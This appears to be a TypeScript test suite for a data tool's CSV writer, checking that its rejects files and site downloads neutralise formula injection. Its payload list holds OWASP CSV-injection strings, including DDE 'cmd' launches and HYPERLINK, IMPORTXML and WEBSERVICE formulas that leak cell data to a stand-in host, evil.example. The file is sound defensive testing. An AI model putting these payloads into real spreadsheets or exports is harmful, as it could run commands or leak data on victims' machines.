// Every CSV Charter writes for people — the rejects file of `charter submit`, the site's public downloads
// and the internal registers — goes through engine/data/csv-write.ts. Here each is fed the OWASP
// CSV-injection payloads, the written file is parsed back as a spreadsheet would split it, and no cell
// may start like a formula (=, +, -, @, their full-width forms, tab/CR/LF/NUL, or one of them after
// spaces); a plain negative number is the one thing allowed to start with "-".
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvCell, csvText, executable } from '../engine/data/csv-write.ts';
import { submit } from '../engine/data/submit.ts';
import type { Tree } from '../engine/load/tree.ts';
import { buildSiteData } from '../engine/site/data.ts';
import type { SiteData } from '../engine/site/types.ts';
import { openStore } from '../engine/store/store.ts';
import { validate } from '../engine/validate/run.ts';
import { ROOT, submitOptions } from './helpers.ts';

/** OWASP CSV Injection examples and their usual variants (DDE, full-width, control-character prefixes). */
export const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-1+1+cmd|' /C calc'!A0",
  "-2+3+cmd|'/C calc'!'A0'",
  '@SUM(1+9)*cmd|\' /C calc\'!A0',
  "=cmd|' /C notepad'!'A1'",
  '=DDE("cmd";"/C calc";"!A0")A0',
  "=2+5+cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
  '=WEBSERVICE("http://evil.example/")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  '  =1+1',
  '\u3000=1+1',
  '＝1+1',
  '＋1+cmd|\' /C calc\'!A0',
  '－1+1',
  '＠SUM(A1:A9)',
  '-A1',
  '-SUM(A1:A2)',
  '- 1',
  '=1+1","=2+2',
];
/** Attempts to break out of a cell into a new one that starts with a formula. */
const BREAKOUTS = ['ok,=1+1', 'ok","=1+1', 'ok\r\n=1+1', 'ok\n@SUM(A1)', '"=1+1', 'ok;=1+1', 'ok\t=1+1'];
const ALL = [...PAYLOADS, ...BREAKOUTS];
/** How the cell must read back: the payload behind a quote, a break-out attempt unchanged in one cell. */
const expected = (p: string): string => (PAYLOADS.includes(p) ? `'${p}` : p);

/** The independent check: would a spreadsheet execute this cell as it reads it? */
const PLAIN_NEGATIVE = /^-(\d+(\.\d+)?|\.\d+)([eE][+-]?\d+)?$/;
function dangerous(cell: string): boolean {
  if (cell === '') return false;
  if (/^[\t\r\n\0]/.test(cell)) return true;
  if (PLAIN_NEGATIVE.test(cell)) return false;
  return /^[ \u00a0\u3000]*[=+\-@＝＋－＠\t\r\n\0]/.test(cell);
}

/** Parse a written CSV the way a spreadsheet splits it and return every cell with its place. */
function cells(text: string): { row: number; col: number; cell: string }[] {
  expect(text.startsWith('\uFEFF')).toBe(true);
  const rows = parse(text.slice(1), { relax_column_count: false }) as string[][];
  return rows.flatMap((r, row) => r.map((cell, col) => ({ row, col, cell })));
}

function assertSafe(text: string, label: string): number {
  const all = cells(text);
  const bad = all.filter((c) => dangerous(c.cell));
  expect(bad, label).toEqual([]);
  return all.length;
}

describe('the neutralising writer', () => {
  it.each(ALL)('neutralises %j and keeps its text in one cell', (p) => {
    const back = cells('\uFEFF' + csvCell(p) + '\r\n');
    expect(back).toHaveLength(1);
    expect(dangerous(back[0]!.cell)).toBe(false);
    expect(back[0]!.cell).toBe(expected(p));
    expect(executable(p)).toBe(PAYLOADS.includes(p));
  });

  it('keeps plain numbers, negative ones included, and ordinary text as they are', () => {
    const row = [-12.5, -3, 0, 42, '-0.75', '-1.5e-3', '报修类别', 'a-b', 'user@example.com', '', null, undefined];
    const back = cells(csvText(row.map((_, i) => `c${i}`), [row]));
    expect(back.filter((c) => c.row === 1).map((c) => c.cell)).toEqual(['-12.5', '-3', '0', '42', '-0.75', '-1.5e-3', '报修类别', 'a-b', 'user@example.com', '', '', '']);
  });

  it('quotes every cell and doubles quotes, so a cell never spills into the next', () => {
    expect(csvCell('a"b')).toBe('"a""b"');
    expect(csvCell(7)).toBe('"7"');
    expect(csvCell({ a: 1 })).toBe('"{""a"":1}"');
    const text = csvText(['h'], ALL.map((p) => [p]));
    expect(cells(text).map((c) => c.cell)).toEqual(['h', ...ALL.map(expected)]);
  });
});

describe('every CSV Charter writes', () => {
  let tree: Tree;
  let dir: string;
  beforeAll(() => {
    tree = validate({ paths: [join(ROOT, 'standards')], cwd: ROOT }).set;
    dir = mkdtempSync(join(tmpdir(), 'charter-csv-'));
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('the rejects file: a provider’s formula cells and headers come back as text', async () => {
    const store = openStore(join(dir, 'rejects.sqlite'));
    try {
      const file = join(dir, 'hostile.csv');
      const head = ['id', 'provider', 'campus', 'category', 'priority', 'reported_at', PAYLOADS[0]!];
      const rows = ALL.map((p, i) => [`WO-${i}`, 'huayu-property', 'main', p, p, '2026-03-05T08:00', p]);
      // Written as a provider's tool would: minimal quoting, payloads as they are.
      const q = (s: string): string => (/[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s);
      writeFileSync(file, [head, ...rows].map((r) => r.map(q).join(',')).join('\n') + '\n');
      const r = await submit(submitOptions(tree, store, dir, file, 'work-orders', { acceptValid: true }));
      expect(r.rejected).toBe(ALL.length);
      const text = readFileSync(r.rejectsFile!, 'utf8');
      const n = assertSafe(text, 'rejects');
      expect(n).toBe((ALL.length + 1) * (head.length + 2));
      // The provider's text is all there (behind the quote), each in its own cell.
      const back = cells(text);
      for (const p of ALL) expect(back.some((c) => c.row > 0 && c.col === 5 && c.cell === expected(p)), JSON.stringify(p)).toBe(true);
      expect(back.find((c) => c.row === 0 && c.col === 8)!.cell).toBe(`'${PAYLOADS[0]}`);
    } finally {
      store.close();
    }
  });

  /** Every text in the site data replaced by a payload, in turn (the edition is kept). */
  function hostile(d: SiteData): SiteData {
    let i = 0;
    const walk = (v: unknown, key: string): unknown => {
      if (typeof v === 'string') return key === 'edition' ? v : ALL[i++ % ALL.length];
      if (Array.isArray(v)) return v.map((x) => walk(x, key));
      if (v && typeof v === 'object') return Object.fromEntries(Object.entries(v).map(([k, x]) => [k, walk(x, k)]));
      return v;
    };
    return walk(d, '') as SiteData;
  }

  async function siteFiles(d: SiteData): Promise<{ name: string; body: string; table: { name: string; internal?: boolean } }[]> {
    const f = join(dir, `site-${d.edition}.json`);
    writeFileSync(f, JSON.stringify({ data: d, pdfs: [] }));
    const saved = process.env.CHARTER_SITE_DATA;
    process.env.CHARTER_SITE_DATA = f;
    try {
      // By path, so the type-check (which does not know Astro's import.meta.env) does not follow it.
      const { files } = (await import(join(ROOT, 'site', 'src', 'lib', 'tables.ts'))) as { files: () => { name: string; body: string; table: { name: string; internal?: boolean } }[] };
      return files().filter((x) => x.name.endsWith('.csv'));
    } finally {
      if (saved === undefined) delete process.env.CHARTER_SITE_DATA;
      else process.env.CHARTER_SITE_DATA = saved;
    }
  }

  it('the site’s public downloads and the internal registers', async () => {
    const store = openStore(join(dir, 'site.sqlite'));
    try {
      for (const edition of ['public', 'internal'] as const) {
        const d = buildSiteData({ tree, store, edition, periods: ['2026-03'] });
        if (edition === 'internal') {
          // Registers with a row each, so every internal column carries a payload.
          d.internal = {
            findings: [{ period: 'x', provider: 'x', requirement: 'x', ref: 'x', title: 'x', status: 'x', measured: 'x', evidence: ['x', 'x'], evidence_total: 2 }],
            notices: [{ number: 'x', period: 'x', provider: 'x', status: 'x', deadline: 'x', deadline_words: 'x', requirements: ['x'], refs: ['x'], history: [{ at: 'x', at_words: 'x', event: 'x', event_words: 'x', actor: 'x', actor_words: 'x', note: 'x' }], pdf: 'x' }],
            scorecards: [{ period: 'x', provider: 'x', total: -12.5, grade: 'x', pdf: 'x' }],
          };
        }
        const csvs = await siteFiles(hostile(d));
        const names = csvs.map((c) => c.table.name);
        expect(names).toContain('pledges');
        expect(names).toContain('clauses');
        if (edition === 'internal') for (const t of ['findings', 'notices', 'notice-history', 'scorecards']) expect(names, t).toContain(t);
        let total = 0;
        for (const c of csvs) total += assertSafe(c.body, `${edition} ${c.name}`);
        expect(total).toBeGreaterThan(100);
        if (edition === 'internal') expect(csvs.find((c) => c.table.name === 'scorecards')!.body).toContain('"-12.5"');
      }
    } finally {
      store.close();
    }
  });
});
